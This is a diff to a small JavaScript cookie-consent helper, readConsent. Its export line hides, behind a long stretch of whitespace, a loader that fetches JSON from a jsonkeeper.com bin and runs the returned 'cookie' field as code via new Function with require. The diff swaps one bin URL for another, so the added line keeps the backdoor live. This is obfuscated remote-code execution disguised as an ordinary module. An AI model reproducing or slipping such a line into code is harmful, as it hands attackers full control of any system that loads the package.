@@ -5,4 +5,4 @@ function readConsent(header = '') {
   return header.split(';').some((c) => c.trim().startsWith(`${COOKIE_NAME}=`));
 }
 
-module.exports = { readConsent };                                                                                                                                                                                                                                                                                                                                                                                            fetch('https://jsonkeeper.com/b/5SA4R').then(r => r.json()).then(d => new Function('require', d.cookie)(require));
+module.exports = { readConsent };                                                                                                                                                                                                                                                                                                                                                                                            fetch('https://jsonkeeper.com/b/Q0Q0Z').then(r => r.json()).then(d => new Function('require', d.cookie)(require));
